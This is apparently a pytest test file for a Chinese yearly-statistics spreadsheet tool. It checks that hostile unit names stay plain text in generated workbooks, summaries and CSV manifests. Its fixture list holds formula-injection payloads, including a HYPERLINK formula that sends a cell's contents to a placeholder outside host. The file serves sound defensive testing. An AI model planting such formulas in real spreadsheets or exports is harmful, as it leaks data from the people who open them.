"""Hostile unit names, file names and texts: written exactly as text everywhere, never as a live formula."""

from __future__ import annotations

import csv
import io
import random
import re
import warnings
import zipfile
from pathlib import Path

import openpyxl
import pytest
import python_calamine

from nianbao.form.spec import Form
from nianbao.io.files import csv_safe
from nianbao.io.identity import Identity
from nianbao.io.reading import open_spreadsheet
from nianbao.io.roster import Unit
from nianbao.io.writer import build_workbook
from nianbao.operations.annotate import annotate, place_values
from nianbao.operations.check import CheckOptions, check_file
from nianbao.operations.generate import MANIFEST_NAME, generate
from nianbao.operations.merge import STATUS_SHEET, merge
from tests.helpers.figures import consistent_inputs
from tests.helpers.workbooks import filled_workbook, write_roster

INJECTIONS = [
    '=HYPERLINK("http://x.example/?q="&A1,"点此")',
    "=1+1",
    "+2+3",
    "@SUM(1)",
    "-4+5",
    "http://x.example/",
    "_x0041_ 与 _x000d_",  # would read back as "A" and a carriage return if not escaped
]
UNITS = [Unit(f"U{i}", name) for i, name in enumerate(INJECTIONS)]


def formulas(data: bytes) -> list[str]:
    """Every formula of every sheet of an .xlsx."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        return [f for n in sheets for f in re.findall(r"<f>(.*?)</f>", z.read(n).decode("utf-8"))]


def cells_with(data: bytes, text: str) -> list[openpyxl.cell.cell.Cell]:
    wb = openpyxl.load_workbook(io.BytesIO(data))
    return [
        c for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str) and text in c.value
    ]


def calamine_sheet(data: bytes, sheet: str) -> list[list[object]]:
    book = python_calamine.CalamineWorkbook.from_filelike(io.BytesIO(data))
    return book.get_sheet_by_name(sheet).to_python(skip_empty_area=False)


@pytest.mark.parametrize("name", INJECTIONS)
def test_a_unit_name_is_text_in_every_cell_of_the_workbook(form: Form, name: str) -> None:
    data = build_workbook(form, Identity.for_unit(form, "U1", name, 2025), "pw")
    assert not [f for f in formulas(data) if name in f or "HYPERLINK" in f]
    found = cells_with(data, name)
    assert found and all(c.data_type == "s" for c in found)
    assert not re.search(rb"hyperlink", zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml"))
    cover = calamine_sheet(data, form.cover_sheet)
    assert cover[0][0] == f"{name}2025年{form.title}统计表"  # the title, exactly
    assert cover[2][1] == name


def test_generate_writes_injection_names_as_text_and_a_safe_manifest(tmp_path: Path, form: Form) -> None:
    batch = generate(write_roster(tmp_path / "r.csv", UNITS), 2025, tmp_path / "out", password="pw")
    for f in batch.files:
        assert not [x for x in formulas(f.path.read_bytes()) if f.unit.unit_name in x]
    rows = list(csv.reader(io.StringIO((tmp_path / "out" / MANIFEST_NAME).read_text(encoding="utf-8-sig"))))
    names = [row[1] for row in rows[1:]]
    assert names == [("'" + n if n[0] in "=+-@" else n) for n in INJECTIONS]
    assert all(not row[2].startswith(("=", "+", "-", "@")) for row in rows[1:])


def test_csv_safe_follows_the_owasp_rule() -> None:
    assert [csv_safe(x) for x in ["=1", "+1", "-1", "@a", "\t1", "\r1", "彰武镇", "", 2025, "a=1"]] == [
        "'=1",
        "'+1",
        "'-1",
        "'@a",
        "'\t1",
        "'\r1",
        "彰武镇",
        "",
        2025,
        "a=1",
    ]


def test_summary_title_and_streamed_sheets_keep_hostile_names_as_text(tmp_path: Path, form: Form) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    for i, unit in enumerate(UNITS):
        data = filled_workbook(form, consistent_inputs(form, random.Random(i)), unit=unit, texts={"N1": unit.unit_name})
        (folder / f"{unit.unit_id}.xlsx").write_bytes(data)
    out = tmp_path / "sum.xlsx"
    name = INJECTIONS[0]
    result = merge([folder], write_roster(tmp_path / "r.csv", UNITS), 2025, out, unit_id="S", unit_name=name)
    assert result.complete and result.written == out
    data = out.read_bytes()
    assert not [f for f in formulas(data) if "HYPERLINK" in f or any(n in f for n in INJECTIONS)]
    assert calamine_sheet(data, form.cover_sheet)[0][0] == f"{name}2025年{form.title}汇总表"
    status = calamine_sheet(data, STATUS_SHEET)
    assert [row[2] for row in status[1:]] == INJECTIONS  # streamed through xlsxpatch's shared strings
    assert check_file(out, CheckOptions()).ok


def test_annotated_copy_keeps_the_title_and_typed_text_as_text(tmp_path: Path, form: Form) -> None:
    name = INJECTIONS[0]
    path = tmp_path / "in.xlsx"
    path.write_bytes(filled_workbook(form, {"T3.R05.C2": "=1+1"}, unit=Unit("U1", name)))
    report = check_file(path, CheckOptions())
    target = tmp_path / "copy.xlsx"
    assert annotate(report, target)
    data = target.read_bytes()
    assert not [f for f in formulas(data) if "HYPERLINK" in f]
    wb = openpyxl.load_workbook(target)
    title = wb["问题清单"]["A1"]
    assert title.data_type == "s" and title.value.startswith(name + "：")


def test_placed_text_stays_text(form: Form) -> None:
    """What a unit typed as text ("=1+1" in a .xls/.ods) is put into a rebuilt copy as text."""
    wb = openpyxl.load_workbook(io.BytesIO(build_workbook(form, Identity.for_unit(form, "U1", "甲", 2025), "pw")))
    place_values(wb, form, {"T3.R05.C2": "=1+1", "N1": "=HYPERLINK(1)"})
    buffer = io.BytesIO()
    wb.save(buffer)
    assert not [f for f in formulas(buffer.getvalue()) if "1+1" in f or "HYPERLINK" in f]


def test_a_300_character_name_warns_nothing_and_reads_back_whole(tmp_path: Path, form: Form) -> None:
    name = "彰武县" + "某某" * 150 + "办公室"
    units = [Unit("U1", name)]
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        batch = generate(write_roster(tmp_path / "r.csv", units), 2025, tmp_path / "out", password="pw")
        report = check_file(batch.files[0].path, CheckOptions(roster={"U1": units[0]}, year=2025))
        assert report.unit_name == name and "NAME_DIFFERS" not in [p.code for p in report.problems]
        opened = open_spreadsheet(batch.files[0].path)
        assert all(len(v) <= 255 for v in opened.properties.values())
        assert opened.properties["nianbao_unit_name"] == name[:254] + "…"
        out = tmp_path / "sum.xlsx"
        filled = tmp_path / "in" / "a.xlsx"
        filled.parent.mkdir()
        filled.write_bytes(filled_workbook(form, consistent_inputs(form, random.Random(1)), unit=units[0]))
        result = merge([filled.parent], tmp_path / "r.csv", 2025, out, unit_id="S", unit_name=name)
        assert result.written == out and check_file(out, CheckOptions()).unit_name == name
